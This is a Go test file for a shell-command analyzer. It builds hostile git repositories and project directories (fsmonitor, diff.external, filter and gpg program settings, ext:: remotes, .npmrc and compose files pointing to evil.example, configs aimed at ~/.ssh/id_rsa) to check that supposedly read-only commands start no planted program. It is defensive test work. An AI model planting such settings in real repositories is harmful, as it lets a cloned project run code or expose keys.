package shell

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/kitbag-go/kitbag/builtin/internal/pathrule"
)

// A repo is a work tree with a commit; tests write its settings.
func newRepo(t *testing.T) (dir string, at pathrule.Place) {
	t.Helper()
	home := t.TempDir()
	dir = filepath.Join(home, "work")
	write(t, dir, map[string]string{"a.txt": "1\n", "b.go": "package b\n", ".gitattributes": "*.txt filter=x diff=x merge=x\n*.go diff=y\n"})
	git(t, dir, "git init -q -b main . && git add . && git commit -qm first && echo 2 >> a.txt && git commit -qam second && git tag v1 && git remote add origin https://example.com/x.git")
	write(t, dir, map[string]string{"a.txt": "1\n2\n3\n", "b.go": "package b\n\n"})
	return dir, pathrule.Place{Cwd: dir, Home: home, Dirs: []string{dir}}
}

func write(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// git runs a script that prepares a repository.
func git(t *testing.T, dir, script string) {
	t.Helper()
	cmd := exec.Command("bash", "-c", script)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+filepath.Dir(dir), "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=n", "GIT_AUTHOR_EMAIL=e", "GIT_COMMITTER_NAME=n", "GIT_COMMITTER_EMAIL=e")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", script, err, out)
	}
}

// gitCommands are everyday commands of git and go, and some that verify signatures.
func gitCommands(t *testing.T) []string {
	cmds := slices.DeleteFunc(lines(t, "everyday.txt"), func(cmd string) bool { return !strings.HasPrefix(cmd, "git ") })
	return append(cmds, "go list ./...", "git log -p", "git log --remerge-diff", "git log --show-signature", "git diff --ext-diff", "git log --format=%+GG", "git log --format=%-G?",
		"git log --format='% GG'", "git log --format=p", "git log --pretty=p", "git show --format=p HEAD", "git lfs ls-files", "git grep -O x")
}

// hostileSettings are the settings with which a repository starts a program; CMD stands for its path.
var hostileSettings = []string{
	"[core]\n\tfsmonitor = CMD", "[core]\n\thooksPath = DIR", "[core]\n\tpager = CMD", "[core]\n\teditor = CMD", "[core]\n\tsshCommand = CMD", "[core]\n\taskPass = CMD",
	"[core]\n\tgitProxy = CMD", "[core]\n\talternateRefsCommand = CMD", "[diff]\n\texternal = CMD", "[diff \"x\"]\n\tcommand = CMD", "[diff \"x\"]\n\ttextconv = CMD", "[diff \"y\"]\n\ttextconv = CMD",
	"[filter \"x\"]\n\tclean = CMD\n\tsmudge = CMD", "[filter \"x\"]\n\tprocess = CMD", "[filter \"x\"]\n\trequired\n\tclean = CMD", "[merge \"x\"]\n\tdriver = CMD", "[gpg]\n\tprogram = CMD",
	"[gpg \"ssh\"]\n\tprogram = CMD\n\tallowedSignersFile = a.txt\n[gpg]\n\tformat = ssh", "[log]\n\tshowSignature = true\n[gpg]\n\tprogram = CMD", "[format]\n\tpretty = %GG\n[gpg]\n\tprogram = CMD",
	"[pretty]\n\tp = format:%GG\n[gpg]\n\tprogram = CMD", "[alias]\n\tst = !CMD\n\tstatus = !CMD\n\tlfs = !CMD", "[pager]\n\tlog = CMD\n\tdiff = CMD\n\tstatus = CMD", "[interactive]\n\tdiffFilter = CMD",
	"[credential]\n\thelper = CMD", "[difftool \"x\"]\n\tcmd = CMD", "[mergetool \"x\"]\n\tcmd = CMD", "[sequence]\n\teditor = CMD", "[trailer \"x\"]\n\tcmd = CMD", "[include]\n\tpath = ../hostile.config",
	"[includeIf \"gitdir:/\"]\n\tpath = ../hostile.config", "[remote \"origin\"]\n\tpromisor = true\n\tpartialCloneFilter = blob:none\n\turl = ext::CMD\n[protocol \"ext\"]\n\tallow = always",
	"[submodule]\n\trecurse = true", "[diff.external] x = 1", "[diff]external=CMD", "[Diff]\n\tExternal = CMD", "[diff \"x\"] TextConv = CMD", "[a] b = 1 \\\n[diff]\n\texternal = CMD", "[user]\n\tname = \"x \\\n\"\n[diff]\n\texternal = CMD",
}

// TestHostileRepository checks that a command that the analysis considers read-only does not start a program in
// a repository, whatever the repository's settings.
func TestHostileRepository(t *testing.T) {
	t.Parallel()
	dir, at := newRepo(t)
	clean, err := os.ReadFile(filepath.Join(dir, ".git/config"))
	if err != nil {
		t.Fatal(err)
	}
	evil, mark := filepath.Join(t.TempDir(), "evil"), filepath.Join(t.TempDir(), "mark")
	program := "#!/bin/sh\necho \"$0 $*\" >> " + mark + "\ncat\n"
	files := map[string]string{"evil": program}
	for _, hook := range []string{"post-index-change", "pre-commit", "reference-transaction", "post-checkout", "pre-auto-gc", "fsmonitor-watchman"} {
		files[hook] = program
	}
	write(t, filepath.Dir(evil), files)
	fill := strings.NewReplacer("CMD", evil, "DIR", filepath.Dir(evil))
	write(t, dir, map[string]string{"hostile.config": fill.Replace("[diff]\n\texternal = CMD\n[core]\n\tfsmonitor = CMD\n")})
	allowed := 0
	for i, settings := range hostileSettings {
		write(t, dir, map[string]string{".git/config": string(clean) + fill.Replace(settings) + "\n"})
		for k, cmd := range gitCommands(t) {
			a := Analyze(cmd, at)
			if a.ReadOnly() != "" || k%16 != i%16 && !strings.Contains(cmd, "diff") && !strings.Contains(cmd, "status") && !strings.Contains(cmd, "log") {
				continue
			}
			allowed++
			run := exec.Command("bash", "--noprofile", "--norc", "-c", cmd)
			run.Dir, run.Env = dir, append(a.Environ([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + at.Home, "GIT_CONFIG_NOSYSTEM=1"}), "GOPROXY=off", "GOTELEMETRY=off")
			_ = run.Run()
			if ran, err := os.ReadFile(mark); err == nil {
				t.Errorf("%q with %q ran %s", cmd, settings, ran)
				os.Remove(mark)
			}
		}
	}
	if allowed < 100 {
		t.Errorf("only %d commands were run", allowed)
	}
	t.Logf("%d commands with %d settings", allowed, len(hostileSettings))
}

// TestNestedRepository checks that nothing runs a program of a repository in the work tree that history knows as a
// submodule, and the index does not. Git uses its settings without those of the environment.
func TestNestedRepository(t *testing.T) {
	t.Parallel()
	dir, at := newRepo(t)
	mark := filepath.Join(t.TempDir(), "mark")
	write(t, dir, map[string]string{"evil": "#!/bin/sh\ntouch " + mark + "\n"})
	git(t, dir, `git config --global diff.submodule diff; git init -q sub && cd sub && echo 1 > f && git add f && git commit -qm a && cd .. && git add sub && git commit -qm a
		cd sub && echo 2 > f && git commit -qam b && git config diff.external ../evil && git config core.fsmonitor ../evil && cd .. && git add sub && git commit -qm b && git rm -q --cached sub && git commit -qm c`)
	for _, cmd := range append(gitCommands(t), "git log -p --submodule=diff", "git diff HEAD~2 HEAD~1", "git diff HEAD~2 HEAD~1 --submodule=diff", "git -c diff.submodule=diff log -p", "git show HEAD~1",
		"git log -p", "git show --submodule HEAD~1", "git -c status.submoduleSummary=true status", "git diff --submodule=$f HEAD~2 HEAD~1") {
		a := Analyze(cmd, at)
		if a.ReadOnly() != "" {
			continue
		}
		run := exec.Command("bash", "--noprofile", "--norc", "-c", cmd)
		run.Dir, run.Env = dir, append(a.Environ([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + at.Home, "GIT_CONFIG_NOSYSTEM=1"}), "GOPROXY=off", "GOTELEMETRY=off")
		_ = run.Run()
		if os.Remove(mark) == nil {
			t.Errorf("%q ran a program of the nested repository", cmd)
		}
	}
}

// TestPlainRepository checks that commands are read-only in a repository as git creates it, with common settings.
func TestPlainRepository(t *testing.T) {
	dir, at := newRepo(t)
	git(t, dir, `git config user.name n; git config branch.main.remote origin; git config branch.main.merge refs/heads/main; git config pull.rebase true
		git config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*'; git config core.autocrlf input; git config alias.st status; git worktree add -q ../linked`)
	at.Dirs = append(at.Dirs, filepath.Join(at.Home, "linked"))
	for _, cmd := range lines(t, "everyday.txt") {
		if !strings.HasPrefix(cmd, "git ") || strings.Contains(cmd, "-C") || strings.Contains(cmd, "/tmp/project") {
			continue
		}
		if why := Analyze(cmd, at).ReadOnly(); why != "" {
			t.Errorf("%q: %s", cmd, why)
		}
		if why := Analyze("cd ../linked && "+cmd, at).ReadOnly(); why != "" {
			t.Errorf("%q in a linked work tree: %s", cmd, why)
		}
	}
}

// TestDirectoryBrings checks that files in a directory determine whether commands that would run programs from
// them are read-only, until the directory is trusted.
func TestDirectoryBrings(t *testing.T) {
	type file = map[string]string
	home := t.TempDir()
	work := filepath.Join(home, "work")
	toolchain := file{"rust-toolchain.toml": "[toolchain]\npath = \"./evil\"\n"}
	for _, row := range []struct {
		files file
		asked []string
		not   []string // commands that use none of the files
	}{
		{file{"x": ""}, nil, []string{"npm ls", "npm --version", "cargo --version", "rustc -vV", "go list ./...", "go version", "git status", "node --version", "terraform output", "bundle --version", "jest --version", "pip list", "hg status"}},
		{file{".npmrc": "registry=https://evil.example/\n"}, []string{"npm ls", "npm view x", "npm root", "npm pkg get name", "npm --version", "npm -v", "npm help", "npm --help", "npm outdated", "npm config get registry", "cd sub && npm ls", "(cd sub; npm root)", "npx --version", "tsc -v"}, []string{"node --version", "git status"}},
		{file{".tool-versions": "nodejs path:./evil\n"}, []string{"node --version", "node -v", "python3 --version", "ruby -v", "java -version", "npm ls", "go version", "cargo --version", "mise --version", "asdf current", "node --help", "python3 -h", "ruby --help", "perl -v", "php --version", "elixir --version", "dart --version", "zig version", "swift --version", "helm --version", "deno --help"}, []string{"git status", "make --version", "git --help"}},
		{file{".python-version": "../../work/evil\n"}, []string{"python3 --version", "pip list", "cd sub && python3 -V"}, []string{"git status"}},
		{file{".python-version": "3.12.1\n", ".ruby-version": "3.3.0\n", ".nvmrc": "20\n", "package.json": "{}"}, nil, []string{"python3 --version", "ruby -v", "node -v", "npm ls"}},
		{file{".ruby-version": "../../evil"}, []string{"ruby -v", "gem list", "bundle -v"}, nil},
		{file{".volta/hooks.json": "{}"}, []string{"node -v", "npm ls"}, nil},
		{file{"package.json": "{\"name\":\"x\",\"volta\":{\"node\":\"1.0.0\"}}"}, []string{"node -v", "npm ls", "tsc -v"}, []string{"git status"}},
		{file{"mise.local.toml": ""}, []string{"node -v", "gofmt -l .", "go version", "gem list", "dotnet --version"}, nil},
		{file{".prototools": "x"}, []string{"node -v", "deno --version"}, nil},
		{file{".hg/hgrc": "x"}, []string{"go list -json ./..."}, []string{"git status"}},
		{file{".git/config": "[blame]\n\tignoreRevsFile = /root/.ssh/id_rsa\n", ".git/HEAD": "x"}, []string{"git blame a"}, nil},
		{file{".git/config": "[core]\n\texcludesFile = ~/.ssh/id_rsa\n", ".git/HEAD": "x"}, []string{"git check-ignore -v a"}, nil},
		{file{"compose.yaml": "include: [\"https://evil.example/${KEY}.git\"]\n"}, []string{"docker compose ps", "docker compose logs", "docker-compose config --services", "cd sub && docker compose top"}, []string{"docker ps"}},
		{file{"docker-compose.yml": "services:\n  a:\n    env_file: x\n", "dev.yml": "services: {a: {extends: {file: oci://evil.example/x}}}\n"}, []string{"docker compose -f dev.yml ps"}, []string{"docker compose ps"}},
		{file{".env": "COMPOSE_FILE=https://evil.example/x.git\n"}, []string{"docker compose ps"}, nil},
		{file{".terraform-version": "1.0.0\n"}, []string{"terraform version", "terraform --version", "terraform -version", "terraform --help", "tofu --version", "terraform output"}, []string{"git status"}},
		{file{"build.zig.zon": "x"}, []string{"zig version", "zig --version"}, []string{"git status"}},
		{toolchain, []string{"cargo --version", "cargo tree --locked", "cargo metadata --locked", "rustc --version", "rustdoc -V", "rustup show", "cd sub && cargo --version", "cargo help", "rustfmt -V"}, []string{"go version"}},
		{file{".cargo/config.toml": "[build]\nrustc = \"./evil\"\n"}, []string{"cargo tree --locked", "cargo metadata --locked", "cargo pkgid"}, []string{"npm ls"}},
		{file{"go.mod": "module x\n\ngo 1.20\n\ntoolchain go1.99.9\n"}, []string{"go list ./...", "go version", "go env GOPATH", "cd sub && go doc fmt", "goimports -l ."}, []string{"cargo --version"}},
		{file{"go.mod": "module x\n\ngo 1.20\n"}, nil, []string{"go list ./...", "go version"}},
		{file{".git/config": "[core]\n\tfsmonitor = x\n[diff]\n\texternal = x\n", ".git/HEAD": "x"}, []string{"git status", "go list", "git -C sub status", "git -C . diff", "cd sub && git log"}, []string{"cargo --version"}},
		{file{"sub/.git/config": "[diff]\n\texternal = x\n"}, []string{"git -C sub status", "cd sub && git diff", "git -C sub/deep log", "git -C link status", "git -C link/../sub status", "cd link && git status", "git -C deeplink/.. log"}, []string{"git status"}},
		{file{".git/modules/x/config": ""}, []string{"git status", "git diff"}, nil},
		{file{".git": "gitdir: elsewhere\n", "elsewhere/config": "[gpg]\nprogram = x\n"}, []string{"git status"}, nil},
		{file{".git": "nonsense\n"}, []string{"git status"}, nil},
		{file{".git/commondir": "../common\n", "common/config": "[filter \"x\"]\nclean = x\n"}, []string{"git status"}, nil},
		{file{".git/config.worktree": "[filter \"x\"]\nclean = x\n"}, []string{"git status"}, nil},
		{file{".git/index": "DIRC\x00\x00\x00\x02 \x00\x00\xe0\x00 "}, []string{"git status"}, nil},
		{file{".terraform/terraform.tfstate": "{}"}, []string{"terraform output", "terraform state list", "terraform workspace show", "terraform -chdir=sub output"}, nil},
		{file{"sub/.terraform/x": "{}"}, []string{"terraform -chdir=sub output"}, []string{"terraform output"}},
		{file{"node_modules/jest/x": ""}, []string{"jest --version", "eslint -v", "webpack --version", "tsc --version"}, []string{"npm ls"}},
		{file{"Gemfile": ""}, []string{"bundle --version", "bundle -v"}, nil},
		{file{".hg/hgrc": "[extensions]\nx = ./x.py\n"}, []string{"hg status", "hg log", "hg --version"}, nil},
		{file{".poetry/plugins/x/y": ""}, []string{"poetry --version", "poetry --help", "poetry config --list"}, []string{"npm ls"}},
		{file{"global.json": ""}, []string{"dotnet --version"}, nil},
		{file{"gradle.properties": ""}, []string{"gradle --version"}, nil},
	} {
		if err := os.RemoveAll(work); err != nil {
			t.Fatal(err)
		}
		write(t, work, file{"sub/deep/x": ""})
		write(t, work, row.files)
		for link, to := range map[string]string{"link": "sub", "deeplink": "sub/deep"} {
			if err := os.Symlink(to, filepath.Join(work, link)); err != nil {
				t.Fatal(err)
			}
		}
		at := pathrule.Place{Cwd: work, Home: home, Dirs: []string{work}}
		trusting := at
		trusting.Trusted = []string{work}
		for _, cmd := range row.asked {
			if Analyze(cmd, at).ReadOnly() == "" {
				t.Errorf("%v: %q is read-only", row.files, cmd)
			}
			if why := Analyze(cmd, trusting).ReadOnly(); why != "" {
				t.Errorf("%v: %q is not read-only in a trusted directory: %s", row.files, cmd, why)
			}
		}
		for _, cmd := range row.not {
			if why := Analyze(cmd, at).ReadOnly(); why != "" {
				t.Errorf("%v: %q: %s", row.files, cmd, why)
			}
		}
	}
}

// TestTrustHolds checks that trust applies to one directory only, that files which appear count, and that files that
// another command of the line unpacks are not trusted.
func TestTrustHolds(t *testing.T) {
	home := t.TempDir()
	work, other := filepath.Join(home, "work"), filepath.Join(home, "other")
	write(t, other, map[string]string{"x": ""})
	write(t, work, map[string]string{"x": ""})
	if err := os.Symlink(other, filepath.Join(work, "out")); err != nil {
		t.Fatal(err)
	}
	at := pathrule.Place{Cwd: work, Home: home, Dirs: []string{work}, Trusted: []string{work}}
	for cmd, want := range map[string]bool{
		"git status": true, "npm ls": true, "git -C . status": true,
		"cd ../other && git status": false, "cd ../other && cargo --version": false, "cd ../other; go list": false, "git -C ../other status": false, "git -C out status": false,
		"cd out && git log": false, "cd out && npm ls": false, "git -C out/../other log": false, "cd / && git log": false, "cd \"$X\" && git status": false, "cd - && npm ls": false,
		"git -C \"$X\" status": false, "pushd out && git diff": false, "(cd out; git diff)": false,
	} {
		if got := Analyze(cmd, at).ReadOnly() == ""; got != want {
			t.Errorf("%q: read-only %v", cmd, got)
		}
	}
	at.Trusted = nil
	if why := Analyze("npm ls", at).ReadOnly(); why != "" {
		t.Error(why)
	}
	write(t, work, map[string]string{".npmrc": "registry=x\n"})
	if Analyze("npm ls", at).ReadOnly() == "" {
		t.Error("there is a .npmrc now")
	}
	os.Remove(filepath.Join(work, ".npmrc"))
	if why := Analyze("npm ls", at).ReadOnly(); why != "" {
		t.Error(why)
	}
	for _, cmd := range []string{"tar xf a.tar && git status", "unzip a.zip; npm ls", "git checkout other && npm ls", "cp -r x/. . && git status", "mv x sub && git -C sub status", "git clone -q x d && cd d && git status", "curl -o .npmrc u; npm root"} {
		if c := Analyze(cmd, at).Commands(); c[len(c)-1].Reason == "" {
			t.Errorf("%q: its files are trusted", cmd)
		}
	}
}
